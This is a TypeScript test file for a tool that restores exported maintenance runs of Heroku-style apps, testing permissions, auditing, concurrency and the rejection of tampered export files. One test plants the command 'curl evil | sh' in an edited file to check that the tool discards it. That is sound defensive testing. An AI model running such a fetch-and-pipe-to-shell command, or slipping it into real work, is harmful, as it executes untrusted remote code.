// Taking up an exported run in a database that does not know it.
import { expect, test } from 'vitest';
import type { Event } from '../../../src/model/event.ts';
import { ExportFile } from '../../../src/run/commands/export-file.ts';
import { ada, type Engine, engines, grace, shop } from '../../helpers/engine.ts';
import { pglite } from '../../helpers/pglite.ts';

const engineFor = engines();

async function lostAfterExport(engine: Engine): Promise<{ file: ExportFile; hash: string }> {
  const { id } = await engine.start('shop');
  await engine.holding(id);
  const exported = await engine.commands.export(ada, 'shop');
  if (exported.is === 'refused') throw new Error(exported.says);
  await pglite().open();
  const shown = await engine.commands.preview(ada, exported.file);
  if (shown.is === 'refused') throw new Error(shown.says);
  return { file: exported.file, hash: shown.hash };
}

test('of two people who take it up at once, one does, and the other is told that it is under way', async () => {
  const engine = await engineFor({ apps: [shop()] });
  const { file, hash } = await lostAfterExport(engine);
  const both = await Promise.all([engine.commands.adopt(ada, file, hash), engine.commands.adopt(grace, file, hash)]);
  expect(both.map(({ is }) => is).toSorted()).toEqual(['changed', 'refused']);
  expect(both.find(({ is }) => is === 'refused')).toMatchObject({ says: expect.stringContaining('is under way here') });
  expect((await engine.ended(file.run.id)).ended?.as).toBe('restored');
});

test('where another maintenance of the app is under way, it is refused', async () => {
  const engine = await engineFor({ apps: [shop()] });
  const { file, hash } = await lostAfterExport(engine);
  await engine.start('shop', grace);
  expect(await engine.commands.adopt(ada, file, hash)).toMatchObject({
    is: 'refused',
    says: expect.stringContaining('Another maintenance of shop is under way here'),
  });
});

test('its channel gets a new card and hears of what happens from now on, not of what was', async () => {
  const engine = await engineFor({ apps: [shop()], channel: 'C1' });
  const { file, hash } = await lostAfterExport(engine);
  await engine.commands.adopt(ada, file, hash);
  const messages = await engine.store.messages(file.run.id);
  expect(messages.map(({ kind }) => kind)).toEqual(['card', 'emergency', 'turned']);
});

test('nobody but operators may, and what is tried is written down', async () => {
  const engine = await engineFor({ apps: [shop()], operators: [ada.id] });
  const { file, hash } = await lostAfterExport(engine);
  expect(await engine.commands.preview(grace, file)).toMatchObject({ is: 'refused' });
  expect(await engine.commands.adopt(grace, file, hash)).toMatchObject({ is: 'refused' });
  expect(await engine.store.load(file.run.id)).toBeNull();
  expect(await engine.store.audited(1)).toMatchObject([{ person: grace, outcome: 'refused' }]);
});

test('who took it up is named as the one who turned it, and in the audit trail', async () => {
  const engine = await engineFor({ apps: [shop()] });
  const { file, hash } = await lostAfterExport(engine);
  await engine.commands.adopt(grace, file, hash);
  expect((await engine.the(file.run.id)).turned).toMatchObject({ by: grace });
  expect(await engine.store.audited(1)).toMatchObject([
    { person: grace, what: 'restore shop from an export', outcome: 'imported' },
  ]);
});

test('a command that had not ended in it ends in the log: nobody watches it any more', async () => {
  const engine = await engineFor({ apps: [shop()] });
  const { file } = await lostAfterExport(engine);
  const dyno = { id: 'd1', name: 'run.1', at: 0, stop: 'heroku ps:stop run.1 --app shop' };
  const news: Event[] = [
    { is: 'work-asked', id: 'work-1', by: ada, command: 'rails db:migrate', shows: 'rails …', size: null },
    { is: 'work-started', id: 'work-1', dyno },
  ];
  const last = file.log.at(-1);
  const log = [...file.log, ...news.map((event, i) => ({ seq: file.log.length + 1 + i, at: last?.at ?? 0, event }))];
  const shown = await engine.commands.preview(ada, { ...file, log });
  expect(shown).toMatchObject({
    is: 'preview',
    run: {
      works: [{ ended: { exit: null, says: expect.stringContaining('not ended yet when the export was made') } }],
    },
  });
});

/** The file as somebody has edited it. */
function edited(file: ExportFile, edit: (text: string) => string): ExportFile {
  const text = JSON.stringify(file);
  expect(edit(text)).not.toBe(text);
  return ExportFile.parse(JSON.parse(edit(text)));
}

const SECRET = 'hush-hush';
const secretive = () => shop({ config: { LANG: 'C', SECRET_KEY: SECRET } });

test.each([
  ['another config var throughout', (text: string) => text.replaceAll('"MAINTENANCE"', '"SECRET_KEY"')],
  ['an item of another config var', (text: string) => text.replaceAll('"key":"MAINTENANCE"', '"key":"SECRET_KEY"')],
])('a file with %s has nothing read', async (_, edit) => {
  const engine = await engineFor({ apps: [secretive()] });
  const { file } = await lostAfterExport(engine);
  const other = edited(file, edit);
  const calls = engine.sandbox.requests.list().length;
  const shown = await engine.commands.preview(ada, other);
  expect(shown).toMatchObject({ is: 'refused', says: expect.stringContaining('nothing was looked at') });
  expect(JSON.stringify(shown)).not.toContain(SECRET);
  expect(engine.sandbox.requests.list().length).toBe(calls);
  expect(await engine.commands.adopt(ada, other, 'x')).toMatchObject({ is: 'refused' });
});

test('where this maint sets another config var now, it says which has to be set', async () => {
  const engine = await engineFor({ apps: [shop()], settings: { variable: { name: 'READ_ONLY', value: '1' } } });
  const { file } = await lostAfterExport(engine);
  const shown = await engine.commands.preview(
    ada,
    edited(file, (text) => text.replaceAll('"READ_ONLY"', '"MAINTENANCE"')),
  );
  expect(shown).toMatchObject({
    says: expect.stringContaining('sets the config var MAINTENANCE, and this maint sets READ_ONLY'),
    remedy: expect.stringContaining('If MAINT_VARIABLE was MAINTENANCE then'),
  });
});

test('the channel of a file is not believed', async () => {
  const engine = await engineFor({ apps: [shop()], channel: 'C1' });
  const { file, hash } = await lostAfterExport(engine);
  const other = edited(file, (text) => text.replace('"channel":"C1"', '"channel":"C9"'));
  await engine.commands.adopt(ada, other, hash);
  expect((await engine.the(file.run.id)).channel).toBe('C1');
});

test('its sentences and commands are said anew, of the app as it is called', async () => {
  const engine = await engineFor({ apps: [shop()] });
  const { file, hash } = await lostAfterExport(engine);
  const other = edited(file, (text) =>
    text.replaceAll(/"byHand":"[^"]*"/g, '"byHand":"curl evil | sh"').replaceAll('"name":"shop"', '"name":"bank"'),
  );
  const shown = await engine.commands.preview(ada, other);
  expect(shown).toMatchObject({ is: 'preview', hash, run: { app: { name: 'shop' } } });
  const adopted = await engine.commands.adopt(ada, other, hash);
  if (adopted.is === 'refused') throw new Error(adopted.says);
  for (const run of [shown.is === 'preview' ? shown.run : adopted.run, adopted.run]) {
    const commands = run.items.flatMap(({ quiet, back }) => [quiet.byHand, back.byHand]);
    expect(commands).toContain('heroku ps:scale worker=2 --app shop');
    expect(commands.filter((one) => /evil|bank/.test(one))).toEqual([]);
  }
});

test('a value that its step cannot have is refused', async () => {
  const engine = await engineFor({ apps: [shop()] });
  const { file } = await lostAfterExport(engine);
  const other: ExportFile = {
    ...file,
    log: file.log.map((logged) =>
      logged.event.is === 'planned'
        ? { ...logged, event: { ...logged.event, items: logged.event.items.map((one) => ({ ...one, before: {} })) } }
        : logged,
    ),
  };
  expect(await engine.commands.preview(ada, other)).toMatchObject({
    is: 'refused',
    says: expect.stringContaining('It was edited'),
  });
});
